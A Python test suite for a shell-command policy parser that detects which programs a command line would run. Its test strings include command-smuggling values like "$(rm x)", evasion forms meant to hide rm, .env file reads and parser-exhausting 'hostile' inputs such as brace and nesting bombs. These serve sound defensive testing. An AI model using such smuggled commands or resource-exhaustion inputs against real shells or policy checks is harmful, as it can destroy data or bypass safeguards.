"""Shell texts and everything that is read from them."""

from __future__ import annotations

import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tree_sitter import Node

from policyd.commands import read, read_argv
from policyd.commands.files.mentions import PIECES
from policyd.commands.lexing import source
from policyd.commands.lexing.plain import divide
from policyd.commands.lexing.run import A_PART, LENGTH, LOOKS, PARTS, REASONS, WORDS, Run
from policyd.commands.lexing.source import odd_characters, prepare
from policyd.commands.matching.patterns import CommandPattern
from policyd.commands.shell import grammar, parsing
from policyd.commands.shell.flat import flat, script, taken_apart
from policyd.commands.shell.grammar import Reader, body
from policyd.commands.shell.parsing import stand_in
from policyd.commands.shell.text import Text
from policyd.commands.shell.words import Scanner
from policyd.commands.state import Pair, State
from policyd.model import Reading, Role, SimpleCommand, Truth, Word, WordKind
from tests.commands_generator import Generator
from tests.commands_shown import shown
from tests.fakes import FakeFilesystem
from tests.rowwise import in_groups

DATA = Path(__file__).parent / "data" / "commands"
CWD, HOME = ("/w",), "/h"
CASES = tomllib.loads((DATA / "reading.toml").read_text())["case"]
HIDDEN = [(case["kind"], text) for case in tomllib.loads((DATA / "reading_hidden.toml").read_text())["case"]
          for text in case["texts"]]  # fmt: skip


def reading(text: str, shell: str = "bash", cwd: tuple[str, ...] = CWD) -> Reading:
    return read(text, cwd=cwd, home=HOME, shell=shell)


def levels(found: Reading) -> Iterator[SimpleCommand]:
    for command in found.commands:
        here: SimpleCommand | None = command
        while here is not None:
            yield here
            here = here.inner


def programs(found: Reading) -> list[str]:
    return [level.argv[0].text for level in levels(found)]


@in_groups((case,) for case in CASES)
def test_a_text_is_read_as_the_table_says(case: dict[str, object]) -> None:
    assert shown(reading(str(case["text"])), CWD) == case["reads"]


@in_groups(HIDDEN)
def test_a_program_that_a_grammar_does_not_show_is_seen_or_opaque_or_taints(kind: str, text: str) -> None:
    found = reading(text)
    marked = any(level.taint or level.tainted or level.env for level in levels(found))
    assert "rm" in programs(found) or found.opaque or marked


# ---- laws ------------------------------------------------------------------------------------------

SHELLISH = st.text(alphabet=st.sampled_from(list("ab1 \t\n'\"\\$`(){}[]<>|&;#!*?~=:,./-@+%^éx")), max_size=60)


@settings(deadline=None)
@given(SHELLISH)
@example("[ <&3 a \n{,}")
def test_no_text_raises_and_no_text_is_read_as_nothing(text: str) -> None:
    found = reading(text)
    if text.replace("\\\n", "").strip(" \t\n") and not found.opaque and not found.commands and not found.files:
        assert set(text) & set("=#[<>")  # assignments, comments, tests and copied descriptors are nothing


@settings(deadline=None)
@given(st.text(max_size=40))
def test_any_characters_at_all_are_read_without_an_exception(text: str) -> None:
    reading(text)
    reading("rm " + text)
    reading(f"echo '{text}'")


@settings(deadline=None)
@given(st.text(max_size=40))
def test_the_grammar_sees_ascii_only_and_every_byte_in_its_place(text: str) -> None:
    source = text.encode("utf-8", "replace").decode("latin-1")
    seen = stand_in(source)
    assert len(seen) == len(source)
    assert seen.isascii()
    assert [char for char in source if char.isascii()] == [
        chr(byte) for byte, char in zip(seen, source, strict=True) if char.isascii()
    ]


def test_blanks_that_are_none_to_a_shell_divide_nothing() -> None:
    assert programs(reading("rm\u3000x; echo 'a\u3000b' 文書.md")) == ["rm\u3000x", "echo"]


def test_what_a_here_document_expands_is_not_known_behind_one_that_expands_nothing() -> None:
    for text in (
        "{ cat <<'F'\na\nF\nrm \"$(cat)\"; } <<E\n$x\nE\n",
        "case $y in a) cat <<'F'\na\nF\nrm \"$(cat)\";; esac <<E\n$x\nE\n",
    ):
        assert [command.argv[1].kind for command in reading(text).commands if command.argv[0].text == "rm"] == [
            WordKind.UNKNOWN
        ]


def test_no_escape_becomes_a_mark_of_the_reader() -> None:
    texts = [f"p $'{escape}'" for escape in ("\\x01", "\\x04g", "\\x0e", "\\cO", "\\020", "\\c?")]
    assert [reading(text).commands[0].argv[1] for text in texts] == [Word("\x7f" + "g" * ("g" in t)) for t in texts]


def test_a_word_that_some_shells_divide_is_not_understood_wherever_it_stands_again() -> None:
    assert [bool(reading(text).opaque) for text in ("echo voilà", "echo b voilà", "echo b | cat voilà")] == [True] * 3
    assert reading("echo voilà b").opaque == ("`à` is divided into two words by some shells; quote it",)
    assert not reading("echo 'voilà'").opaque


@pytest.mark.parametrize("text", ["✅ x", "х Харків", "完了 été", "données/été.csv"])
def test_letters_of_any_script_are_words(text: str) -> None:
    seen = reading(f"echo {text}")
    assert (seen.opaque, [word.text for word in seen.commands[0].argv[1:]]) == ((), text.split())


@pytest.mark.parametrize("text", ["! { a; b; }", "! ( a; b )", "! { a; b; } | c", "x && ! { a\nb\n}"])
def test_a_group_may_be_negated(text: str) -> None:
    seen = reading(text)
    assert seen.opaque == ()
    assert {"a", "b"} <= set(programs(seen))


@pytest.mark.parametrize("text", ["x | ! { a; }", "!{ a; }", "! {a; }", "! ! { a; }", "! { a }"])
def test_what_is_nearly_a_negated_group_is_not_understood(text: str) -> None:
    assert reading(text).opaque


@settings(deadline=None)
@given(SHELLISH)
def test_what_stands_in_single_quotes_is_a_word_and_nothing_else(text: str) -> None:
    text = text.replace("'", "")
    found = reading(f"echo '{text}' b")
    assert [word.text for word in found.commands[0].argv] == ["echo", text, "b"]
    assert len(found.commands) == 1
    assert not found.opaque


@settings(deadline=None)
@given(SHELLISH)
def test_a_command_before_a_line_of_anything_is_still_seen(text: str) -> None:
    found = reading(f"rm x\n{text}")
    assert "rm" in programs(found)


# ---- plain lists -----------------------------------------------------------------------------------


class ByTree(Reader):
    """Reads everything by the tree of the grammar, the bodies of what it nests too."""

    def sequence(self, nodes: list[Node], start: int, end: int) -> Pair:
        """Read statements by their nodes."""
        return self._statements(nodes, start, end)

    def body(self, source: str) -> None:
        """Read what is expanded in a here-document by the tree of each."""
        body(self, source)


def by_tree(text: str) -> Reading:
    run = Run()
    source, problems, ends = prepare(
        odd_characters(text)[0].encode("utf-8", "replace").decode("latin-1"), run.documents
    )
    for problem in problems:
        run.opaque(problem)
    ByTree(run, source, State(HOME, CWD), (), script, ends=ends).read()
    return run.reading()


def plainly(text: str) -> Reading | None:
    """Return the reading of a plain list, None for any other text."""
    source, run = text.encode("utf-8", "replace").decode("latin-1"), Run()
    whole = Text(run, source, State(HOME, CWD), (), script)
    parts, _ = taken_apart(whole) if not odd_characters(text)[1] else (None, None)
    if parts is None:
        return None
    flat(whole, parts)
    return run.reading()


HEADS = (
    "ls", "git", "cat", "cd", "cd", "export", "read", "exit", "return", "eval", "set", "unset", "local", "trap", "true",
    "sudo", "bash", "sh -c", "xargs", "echo", "test", "find", "env", "'l's", '"ls"', "$x", "${x}", "~/bin/a", "./a.sh",
    "x=1", "x=$y", "x='a b' ls", "A=1 B=2 ls", "PATH=/x", "[ -f", "[ !", "printf -v", "source",
    "export x=$y", 'local -r x="$1"', "readonly A=~/d B=*", "export a=$x$(b)", ". ./a", "declare -x",
)  # fmt: skip
PLAIN_WORDS = (
    "a", "-f", "--out=v", "..", "/etc", "d/e", "'a b'", '"a b"', '"$x y"', "$x", "${y}", '"${x}"', "$1", '"$@"', "$?",
    "*.py", "a?", "~/d", "~", "{}", "\\;", "\\(", '"a\\"b"', "'a;rm x'", '"a|b"', "x=1", "a=b", "a'b'c", "HEAD^",
    "HEAD~1", "é", "'é\n'", "2", "]", "!=", "=", "a,b", "@x", "+%s", "''", '""', "if", "done", "--", "-", "$HOME/x",
)  # fmt: skip
JOINS = (
    " && ",
    " || ",
    " | ",
    "; ",
    "\n",
    "&&",
    "|",
    ";",
    " & ",
    " &&\n  ",
    " |\n",
    "&",
    "\n\n",
    "  # c 'x\n",
    ";\n",
    " &\n",
)
BEHIND = ("", "", "", " > o", " >> 'o p'", " 2>&1", " 2>/dev/null", " < f", " &> o", " >o 2>&1", " <<< x", ' <<< "$x"')
COMMAND = st.builds(
    lambda head, words, behind: " ".join([head, *words]) + behind,
    st.sampled_from(HEADS),
    st.lists(st.sampled_from(PLAIN_WORDS), max_size=4),
    st.sampled_from(BEHIND),
)
LIST = st.lists(st.tuples(COMMAND, st.sampled_from(JOINS)), min_size=1, max_size=5).map(
    lambda found: "".join(part for pair in found for part in pair)
)
NESTS = (
    "$(pwd)", "$(a | b)", "$(cd d && c)", "$(x=1; echo $x)", "$(< f)", "$(cat)", "$(a 'b)' \"c)\")", "$(a $(b) c)",
    "$(! a)", "$(date +%s)", "$(a > f)", "$(if a)", "`a`", "`a $x | b`", "`pwd`", "`cd d; a`", "{a,b}", "x{1,2}.c",
    "a/{b,c.d}-e", "{a,b,}c", "x{a..c,d}", "{a,b}{c,d}", "$'a\\'b'", "{1..3}",
    "${x:-y}", "${x##*/}", "${y%.c}", "${x:-$(b c)}", "${z:=`d`}", "${x/a/$y}", "${x:+a~*}", "${x,,}", "${IFS:-a}",
    "${x:?e}", "${PWD#a}", "${x:-${y}}", "${y-$1}",
)  # fmt: skip
NESTING = st.sampled_from(NESTS) | st.builds(
    lambda mark, lines, end: f"$(cat <<{mark}\n{''.join(lines)}{end})",
    st.sampled_from(("'EOF'", '"EOF"', "EOF", " 'MSG'", "'EOF' ", "'E'", "-'EOF'", "'EOF' | sed a", "EOF <<'EOF'")),
    st.lists(
        st.sampled_from(
            ("feat: it's (a \"x\n", "\n", "é `b` $(c) ${d}\n", "a {b,c} ~ * [\\\n", " EOF\n", "EOFS\n", "-\tx;&|\n")
        ),
        max_size=3,
    ),
    st.sampled_from(("EOF\n", "EOF\n\n ", "EOF", "E\n", "MSG\n", "EOF\nrm x\n", "EOF\nEOF\n")),
)
NEST_WORD = st.builds(str.format, st.sampled_from(("{}", '"{}"', "a{}", "v={}", '"x {} y"', "{}b")), NESTING)
NEST_HEADS = (
    "ls",
    "echo",
    "cd",
    "! a",
    "x=1",
    "A=$(b)",
    "eval",
    "time ls",
    "export",
    "cat <(a)",
    "! [ a ]",
    "exit",
    "read",
)
NEST_COMMAND = st.builds(
    lambda head, words, behind: " ".join([head, *words]) + behind,
    st.sampled_from(NEST_HEADS),
    st.lists(NEST_WORD | st.sampled_from(PLAIN_WORDS), max_size=3),
    st.sampled_from((*BEHIND, ' > "$(a)"', " > >(tee o)", " < <(a)", " <<< `a`")),
)
NEST_LIST = st.lists(st.tuples(NEST_COMMAND, st.sampled_from((*JOINS, " |& "))), min_size=1, max_size=3).map(
    lambda found: "".join(part for pair in found for part in pair)
)
GROUP = st.builds(str.format, st.sampled_from(("({})", "( {})", "{{ {}\n}}", "{{ {}; }}", "! ({})")), NEST_LIST)
GROUPS = st.lists(
    st.tuples(GROUP | NEST_COMMAND, st.sampled_from((*JOINS, " > o; ", " 2>&1 | "))), min_size=1, max_size=4
).map(lambda found: "".join(part for pair in found for part in pair))
BODY = st.lists(
    st.sampled_from(
        (
            "a\n",
            "$x\n",
            "$(rm x)\n",
            "`y`\n",
            "${y} $(a | b 'c)') $5 `d $x` $\n",
            "${x:-$(y)}$((1))\n",
            "$(case a in b) c;; esac)\n",
            '"$(a "b" $(c))" \'`d`\'\n',
            "$[1] $(a\n",
            "$(a <<X\n",
            "$(cd d; a > o)$(b)\n",
            "\n",
            " E\n",
            "\\$(a)\n",
            "F\n",
            "é\n",
        )
    ),
    max_size=3,
)
FED = st.builds(
    lambda head, mark, behind, body, end: f"{head} {mark}{behind}\n{''.join(body)}{end}",
    st.sampled_from(("cat", "sh", "a b", "x=1", "cd d; cat", "! cat")),
    st.sampled_from(("<<E", "<<'E'", '<< "E"', "<<E <<F", "<<F > o <<'E'")),
    st.sampled_from(("", " | sh", "; ls", " > o", " && cat <<F", " # c", " &", " 2>&1")),
    BODY,
    st.sampled_from(("E\n", "E", "E\nF\nls $x\n", "F\nE\n\nrm y", "E\n# c\nF")),
)
TESTED = st.lists(
    st.sampled_from(
        (
            *PLAIN_WORDS,
            "==",
            "!=",
            "=~",
            "&&",
            "||",
            "!",
            "-n",
            "-f",
            "-nt",
            "-eq",
            "-v",
            "$(a)",
            "\"$(b 'c)')\"",
            "`d`",
            '"a `d` $(cd e)"',
            "$(cd d)",
        )
    ),
    max_size=6,
).map(lambda words: f"[[ {' '.join(words)} ]]")
SIMPLE = st.sampled_from(
    (
        "[[ -n $x ]]", "[[ $(id -u) -eq 0 ]]", "[[ $(a b) == c* && -v `d` ]]",
        "[[ ! -f 'a b' && $x == \"y $z\" || a != b* ]]",
        "break", "continue", "exit 1", "cd d", "cd ..", "x=$y", "x=a", "read x", "[ -f $x ]", "ls $x", 'ls "$x" "$y"',
        "cat", "! a", "eval 'x=1'", "PATH=/x", "ls *.c x$x", 'cd "$x"', "a > $x", "sh", "sudo a $x",
    )
)  # fmt: skip
INNER = st.builds(
    lambda chain, last, end: "".join(part for pair in chain for part in pair) + last + end,
    st.lists(
        st.tuples(
            SIMPLE, st.sampled_from((" && ", " || ", " | ", "; ", "\n", " & ", " # c\n", " &&\n", " | # c\n\n "))
        ),
        max_size=2,
    ),
    SIMPLE | NEST_COMMAND,
    st.sampled_from((";", "\n", " ;\n", " &", " # c\n")),
)
VALUES = st.lists(st.sampled_from(PLAIN_WORDS) | NEST_WORD, max_size=3).map(" ".join)
SHAPES = (
    "if {0} then {1} fi", "if {0} then {1} else {2} fi", "if {0}\nthen\n{1}\nelif {2} then {3} fi",
    "if {0} then {1} elif {2} then {3} else {0} fi", "while {0} do {1} done", "until {0} do {1} done",
    "for x in {4}; do {0} done", "for x in {4}\ndo\n{0} done", "select x in {4}; do {0} done", "if ! {0} then {1} fi",
    "for x in a 'b c' *.py; do {0} if {1} then {2} fi; {3} done", "while {0} do if {1} then break; fi; {2} done",
    "for x in a {4} ; do for y in $x b; do {0} done; done", "(if {0} then {1} fi)", "ls $(for x in a; do {0} done)",
)  # fmt: skip
COMPOUND = st.builds(
    lambda shape, one, two, three, four, values: shape.format(one, two, three, four, values),
    st.sampled_from(SHAPES), INNER, INNER, INNER, INNER, VALUES,
)  # fmt: skip
COMPOUNDS = st.builds(
    lambda chain, last, end: "".join(part for pair in chain for part in pair) + last + end,
    st.lists(st.tuples(COMPOUND | SIMPLE, st.sampled_from((" && ", " || ", " | ", "; ", "\n", " & "))), max_size=2),
    COMPOUND,
    st.sampled_from(
        ("", "\n", " > o", " 2>&1 | a", " < f; ls $x", " <<E\n$x\nE\n", " || ls $x", " && cd ..; a", "; ls *")
    ),
)
ALMOST = st.text(alphabet=st.sampled_from(list("ab1 \n'\"\\$x{};&|<>#[]!,./-=~^*?é()`E")), max_size=30)


def alike(text: str) -> bool:
    """Say whether a text that is a plain list is read as the tree of the grammar would be, where that knows it."""
    found = plainly(text)
    slow = by_tree(text) if found is not None else None
    return found == slow or slow is None or bool(slow.opaque)


TEXTS = (
    LIST | ALMOST | GROUPS | FED | COMPOUNDS | TESTED | st.integers(0, 10_000).map(lambda seed: Generator(seed).text())
)


VARIABLES = ("$x", '"$x"', "${x}", '"${x}"', "$PWD", '"$PWD"', "$IFS", "${HOME}", '"$HOME"', "$y")
SET = ("", "x=a", "x='a b' y=*", "x=$z y=~", "IFS=: x=a:b", "HOME=/d PWD=/e", "x=", "x=$(date +%F)")


@in_groups((spelled, before) for spelled in VARIABLES for before in SET)
def test_a_variable_that_is_a_word_is_read_as_a_variable_anywhere(spelled: str, before: str) -> None:
    run, state = Run(), State(HOME, CWD)
    script(run, before, state, ())
    text = Text(run, spelled, state, (), script)
    assert text.scan([(0, len(spelled))]) == Scanner(text).words(0, len(spelled))


@settings(deadline=None)
@given(TEXTS)
def test_a_plain_list_is_read_as_the_tree_of_the_grammar_would_be(text: str) -> None:
    assert alike(text)


@pytest.mark.slow
@settings(deadline=None, max_examples=10_000)
@given(TEXTS)
def test_a_plain_list_is_read_as_the_tree_of_the_grammar_would_be_however_odd(text: str) -> None:
    assert alike(text)


PLAIN = (
    "cd a; cd b && ls | cat *.py || exit; pwd",
    "a 2>&1 | b >/dev/null && c 2> /dev/null;d",
    "cd x || exit 1; ls",
    "true && cd a && cd b; ls; cd ..",
    "export A=1 && ls 'a b' \"c d\"",
    "read x | ls; sudo rm x",
    "git log --pretty=format:'%h %s' | awk '{print $1}' > out.txt",
    "FOO=1 BAR='a b' make -j4 2>&1 | tee log",
    'x=1; echo $x "${x}y" ~/d HEAD^',
    "[ -f a ] && rm a || touch a",
    "find . -name '*.py' -exec grep -l todo {} \\;",
    "server & sleep 2\n# wait\ncurl -s localhost:8000",
    "cat <<'EOF' > out.txt\n$(rm x)\nEOF",
    "cat <<EOF | sh\nrm $x\nEOF",
    "cat <<< 'a b' && ls \\\n  -la",
    "a <<E | b <<'F'; c\n$x\nE\n$(rm x)\nF\nd",
    "(cd a && b); { c; d; } > o && ! e",
    "a || { b; exit 1; }; cd c && (cd d; pwd) | e",
    'x=$(git rev-parse HEAD); echo "$x" `pwd` "$(a "$(b)" | c)"',
    "diff <(sort a) <(sort b) > >(tee o)",
    "cp a{1,2}.txt {x,y} $'a\\nb' |& c",
    "time make -j4; coproc cat",
    "{a,b} x; ! {c,d}e && A=1 {f,g}",
    'git commit -m "fix: \\"é\\"\n\nbody"',
    "if [ -f .env ]; then source .env; elif ! a; then b; else touch .env; fi",
    'for f in *.py "a b"; do black "$f" || break; done > o && ls',
    "for i in $(seq 1 3)\ndo\n  echo $i; cd d\ndone | sort",
    'ls | while read -r l; do echo "$l"; done; until a; do sleep 1; done &',
    "if [[ ! -f $x && -n 'a b' ]] || [[ $y == a* ]]; then b &&\n c; fi",
    "git add -A && git commit -m \"$(cat <<'EOF'\nfeat: it's (a) `b` $c \\\n\n- é {d}\nEOF\n)\" && git push",
    'gh pr create --body "$(cat <<EOF\n## a\n\nb\nEOF\n)"; x=$(cat <<"END"\na\nEND\n\n )',
    'echo ${x:-y} "${x:-a b}" ${x##*/} "a${y%.*}b" ${z:-$(date +%s)} && ls $x "$y" "${z}"; x=a; ls $x "$x"',
    'export A=$(a b) B="$x y" C=~/d D=*.c -x E; local x=${y:-z}; readonly y=`b`',
    "select x in a b; do echo $x; done < f",
    "cat <<E; if a; then cat <<F; fi\n1\nE\n2\nF\nb",
)


@pytest.mark.parametrize("text", PLAIN)
def test_an_everyday_list_is_read_without_the_tree_and_as_by_it(text: str) -> None:
    assert plainly(text) == by_tree(text)


NOT_PLAIN = (
    "if",
    "if a; fi",
    "if a; then b; else c; elif d; then e; fi",
    "if a; then b; fi c",
    "if a; then b; fi && ",
    "if a; then b; done",
    "if a && then b; fi",
    "if then b; fi",
    "for x; do a; done",
    "for x in a; a; done",
    "for x in a && do b; done",
    "for x in a > o; do b; done",
    "for 1 in a; do b; done",
    "for $x in a; do b; done",
    "while a; do b",
    "while a; done",
    "while a; do b; done; done",
    "then a",
    "[[ a",
    "[[ a ]] b",
    "[[ a ]] > o",
    "[[ a &&\nb ]]",
    "[[ a b ]]",
    "[[ a && ]]",
    "[[ x[1] == a ]]",
    "[[ (a) ]]",
    "[[ a < b ]]",
    "[[ 'a (b' ]]",
    "a; do b",
    "for x in a; do " * 6 + "b" + "; done" * 6,
    "! ! ls",
    "a | ! b",
    "! a=1",
    "a\\",
    "a && ",
    "a ;; b",
    "a & & b",
    "{ ls }",
    "{ ls; } x",
    "{ { ls; }; }",
    "{} x",
    "{a} x",
    "{,a} x",
    "()",
    "((ls))",
    "( (ls) )",
    "(ls) x",
    "(ls; }",
    "{ ls; )",
    "a >",
    "a > o b",
    "x+=1",
    "a[1]=2",
    "a `b",
    "a `b \\`c\\``",
    "a `b 'c'`",
    "a $()",
    "a ``",
    "a $((b))",
    "a $(b $(c $(d)))",
    "a $(b # c\n)",
    "a $(case b in c) d;; esac)",
    "a $(b",
    "<(a) b",
    "a<(b)",
    'a $"b"',
    "a ${x:-y z}",
    "a ${x:-'y'}",
    "a ${x:-${y:-z}}",
    "a ${x:1}",
    "a ${x[1]}",
    "a ${!x}",
    "a ${#x}",
    "a ${x@P}",
    "a ${x:-$(b}",
    "a {b,{c,d}}",
    "a { b",
    "a 'b",
    'a "b',
    "export $x",
    "unset x=$y",
    "export a*",
    'export "x=$y"',
    "a\x01b",
    "[ a",
    "] a",
    "[ a ] b",
    "time if a",
    "time -p { a; }",
    "A=1 time ls",
    "> f",
    "a\r",
    "a \u200b",
    "'a\x1b'",
    "a >&f",
    "a 3>f",
    "a {fd}>f",
)  # fmt: skip


@pytest.mark.parametrize("text", NOT_PLAIN)
def test_anything_else_is_left_to_the_tree(text: str) -> None:
    assert plainly(text) is None


@pytest.mark.parametrize(
    "text",
    [
        "a <<E",
        "a <<E\nb",
        "a <<E\nb\\\nE\n",
        "a <<-E\nE\n",
        "a <<E 'b\n'\nE\n",
        "a <<E 'b\nE\n'\nE\n",
        "a <<E\nb E",
        "a <<E; b <<F\nE\n",
        "until a; do b; done <<E",
        "if a <<E; then b; fi\n",
    ],
)
def test_a_here_document_whose_end_is_not_plain_is_left_to_the_scan(text: str) -> None:
    assert divide(text) is None


CONTINUED = st.lists(
    st.sampled_from(
        ("\\\n", "'", '"', "#", " ", "a", "\n", "\\", ";", "$x", "$", "(", ")", "{", "<", "# c", "'q'", '"z"')
    ),
    max_size=14,
).map("".join)


@settings(deadline=None)
@given(CONTINUED)
def test_lines_are_joined_at_once_only_as_a_scan_of_every_character_would(text: str) -> None:
    joined = source.joined(text)
    if joined:
        scan = source.Scan(text, [], cases="case" in text)
        assert (scan.run(), scan.problems) == (joined, [])


# ---- caps ------------------------------------------------------------------------------------------

DEEP = (
    "$(" * 200 + "rm x" + ")" * 200,
    "( " * 300 + "rm x" + " )" * 300,
    "if a; then " * 100 + "rm x" + "; fi" * 100,
    "sudo " * 100 + "rm x",
)


@pytest.mark.parametrize("text", DEEP, ids=lambda text: text[:8])
def test_nesting_beyond_the_cap_is_opaque_and_its_words_are_still_seen(text: str) -> None:
    found = reading(text)
    assert found.opaque
    assert "rm" in programs(found) or "sudo" in programs(found)


def test_more_parts_than_the_cap_keep_what_was_seen_and_are_opaque() -> None:
    found = reading("rm x; " + "a; " * (PARTS + 10))
    assert found.commands[0].argv[0].text == "rm"
    assert any("parts" in reason for reason in found.opaque)


@pytest.mark.parametrize("part", ["$v; ", "$v && ", "a | ", "x=1\n"])
def test_parts_beyond_the_cap_are_opaque_even_where_they_come_to_nothing(part: str) -> None:
    assert any("parts" in reason for reason in reading("v=; " + part * (PARTS + 10) + "rm x").opaque)


def test_parts_that_run_elsewhere_count_and_beyond_the_cap_anything_is_suspected() -> None:
    many = "a; " * (PARTS // 2 + 10)
    assert reading(f"docker exec c sh -c '{many}rm x'; b").opaque == ()
    assert any("parts" in reason for reason in reading(f"docker exec c sh -c '{many}'; " * 2 + "b").opaque)
    found = reading(f"docker exec c sh -c '{many * 2}rm x'; b")
    assert any("parts" in reason for reason in found.opaque)
    assert CommandPattern.compile("rm", home="/h").maybe(found.commands[0], widen=True) is Truth.MAYBE


def test_many_parts_below_the_cap_are_all_seen() -> None:
    found = reading(" && ".join(f"a{number} > o" for number in range(2_000)) + " && rm x")
    assert not found.opaque
    assert len(found.commands) == 2_001
    assert found.commands[-1].argv[0].text == "rm"


def test_a_text_longer_than_the_cap_is_opaque_and_its_beginning_is_read() -> None:
    found = reading("rm x; echo " + "a" * 300_000)
    assert "rm" in programs(found)
    assert any("longer" in reason for reason in found.opaque)


TANGLED = (
    "[[a ~+x &> ",
    "case x in a) b;;\n",
    'x=( | "1',
    "| done in",
    "${x/ let ${x# \\\n",
    "a() { $(",
    "bash -c '[[a ~+x &> [[b ~+x &>'; case a in ",
)
"""What the grammar recovers from at a cost that grows with the square of the text."""


@pytest.mark.parametrize("again", [30, 100, 3_000])
@pytest.mark.parametrize("unit", TANGLED)
def test_what_the_grammar_looks_at_is_bounded_and_all_else_is_opaque_and_seen_by_strict_rules(
    unit: str, again: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parsing, "MARKS", 400)
    looks, asked, refused = 300, 0, 0

    def parsed(run: Run, source: str) -> Node | None:
        nonlocal asked, refused
        before = run.looks
        root = parsing.parsed(run, source)
        refused, asked = refused + (root is None), asked + before - run.looks
        assert root is None or len(source) <= 100 * parsing.MARKS
        return root

    monkeypatch.setattr(grammar, "parsed", parsed)
    run = Run(looks=looks)
    script(run, f"rm x\n{unit * again}", State(HOME, CWD), ())
    assert run.reasons
    assert "rm" in programs(run.reading())
    assert asked <= looks + 2.5 * parsing.MARKS + 20
    assert refused or again < 1_000


def test_the_grammar_is_told_that_a_text_ends_where_it_has_looked_too_often() -> None:
    text = "[[a ~+x &> " * 300
    for looks, seen in ((2_800, False), (3_500, True), (LOOKS, True)):
        assert (parsing.parsed(Run(looks=looks), text) is not None) == seen


@pytest.mark.parametrize(
    "text",
    [
        "if x; then echo 'a b' \"$x y\" | grep z > f; fi\n" * 500,
        "if case $1 in a) make;; esac; then\n" + "                case $1 in a) make;; esac\n" * 500 + "fi\n",
        "case x in a) b;; esac; cat <<'E' > f\n" + "print('(', [1, 2], \"{\")\n" * 5_000 + "E\n",
        "case x in a) b;; esac; echo " + "word" * 50_000,
    ],
    ids=["many commands", "indented", "a here-document", "a long word"],
)
def test_a_long_text_that_is_shell_syntax_is_parsed(text: str) -> None:
    assert not reading(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        "$( <<E ( " * 10_000,
        "$(\\\n " + "cat <<E " * 10_000,
        "cat <<E\nE\n$(case x in " + "a) b;; " * 10_000 + "esac)",
    ],
    ids=["deep", "here-documents", "a case"],
)
def test_what_stands_before_the_grammar_follows_a_text_only_so_far(text: str) -> None:
    documents: list[source.Document] = []
    prepared, problems, ends = prepare(text, documents)
    assert (prepared, documents, ends) == (text, [], None)
    assert problems


HOSTILE = (
    '"$(cat <<E\n' * 20_000,
    ("if a; then " + "b;" * 500) * 60 + "c" + "; x=(d); fi" * 60,
    "[[ a == b && " * 20_000,
    "{" * 20_000,
    "echo " + "{a," * 3_000,
    "echo {1..1000000}",
    "echo " + "{a,b}" * 30,
    "[[ " + "( " * 3_000,
    "a=" + "(" * 5_000,
    "`" * 999,
    "${x:-" * 3_000,
    "$((" * 3_000,
    "<<a " * 2_000,
    "cat <<A\n" * 2_000,
    "x=aa; " + "x=$x$x; " * 40 + "echo $x",
    "eval " * 2_000 + "rm",
    "sudo -x " * 2_000 + "rm",
    "while a; do cd b; " * 30 + "done;" * 30,
    "'" * 9_999,
    "cat <<E\n" + "$(a) `b`\n" * 300 + "E\n",
)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:12])
@pytest.mark.timeout(20)
def test_hostile_texts_neither_hang_nor_raise(text: str) -> None:
    reading(text)


ENDS = ("exit", "exit 1", "{ echo x; exit 1; }")
GOES_ON = (
    "{ exit & }",
    "{ true || exit; }",
    "{ exit | cat; }",
    "! return",
    "! exit > no/f",
    "! { exit; } > no/f",
    "echo x",
)


@pytest.mark.parametrize("around", ["{}", "case a in a) {};; esac"])
def test_only_what_certainly_ends_the_shell_keeps_the_place_of_a_failure_from_what_follows(around: str) -> None:
    for words in (*ENDS, *GOES_ON):
        commands = reading(around.format(f"cd sub || {words} && cat f")).commands
        assert (CWD[0] in commands[-1].cwd) is (words in GOES_ON), words


# ---- other shells ----------------------------------------------------------------------------------

ZSH = ("=rm x", "ls &| rm x", "ls &! rm x", "noglob rm x", "${(e)X}; rm x")


@pytest.mark.parametrize("text", ZSH)
def test_text_for_zsh_is_opaque_and_seen_by_strict_rules_only(text: str) -> None:
    found = reading(text, "zsh")
    assert found.opaque
    assert "rm" in programs(found)
    assert all(level.strict_only for level in levels(found))


@pytest.mark.parametrize(
    ("shell", "text"), [("powershell", "gci $a; Remove-Item x"), ("cmd", "dir %a% & Remove-Item x")]
)
def test_text_for_shells_that_are_not_parsed_is_opaque_and_its_plain_words_are_seen(shell: str, text: str) -> None:
    found = reading(text, shell)
    assert found.opaque
    assert "Remove-Item" in programs(found)
    assert all(level.strict_only for level in levels(found))


# ---- argument vectors ------------------------------------------------------------------------------


def test_an_argument_vector_is_taken_as_it_is() -> None:
    found = read_argv(("git", "log", "--format=a|b", "$(rm x)", "*"), {}, cwd=CWD, home=HOME)
    assert [word.text for word in found.commands[0].argv] == ["git", "log", "--format=a|b", "$(rm x)", "*"]
    assert all(word.kind is WordKind.CONST for word in found.commands[0].argv)
    assert len(found.commands) == 1
    assert not found.opaque


def test_a_shell_in_an_argument_vector_is_read() -> None:
    found = read_argv(("bash", "-lc", "ls && rm x"), {"A": "1"}, cwd=CWD, home=HOME)
    assert programs(found) == ["bash", "ls", "rm"]
    assert [one.name for one in found.commands[2].taint] == ["A"]
    assert [one.name for one in found.commands[0].env] == ["A"]


@pytest.mark.parametrize("argv", [(), ("",)])
def test_an_empty_argument_vector_is_opaque(argv: tuple[str, ...]) -> None:
    assert read_argv(argv, {}, cwd=CWD, home=HOME).opaque


# ---- directories -----------------------------------------------------------------------------------


def test_every_place_the_shell_may_start_in_is_kept() -> None:
    found = reading("cd d && ls", cwd=("/a", "/b"))
    assert [command.chdir for command in found.commands] == ["/a/d", "/b/d", None]
    assert found.commands[-1].cwd == ("/a/d", "/b/d")


def test_an_unknown_place_stays_unknown_until_an_absolute_one() -> None:
    found = reading("cd d && ls; cd /x && pwd", cwd=())
    assert [command.cwd for command in found.commands] == [(), (), (), ("/x",)]


def test_the_working_directory_by_name_is_not_known_where_it_is_not_one_place() -> None:
    found = reading("env -C /c cat $PWD/.env ~+/.env", cwd=("/a", "/b"))
    assert [word.kind for word in found.commands[0].argv[-2:]] == [WordKind.UNKNOWN] * 2


@pytest.mark.parametrize(
    ("text", "places"),
    [
        ("echo $(x) | b | c && cd /etc && rm y", ("/etc",)),
        ("echo $(x) | b | c && cd /etc; rm y", ("/etc", "/w")),
        ("(a | b | c && cd /etc && rm y)", ("/etc",)),
        ("echo $(x) | b | c || cd /etc | d; rm y", ("/w",)),
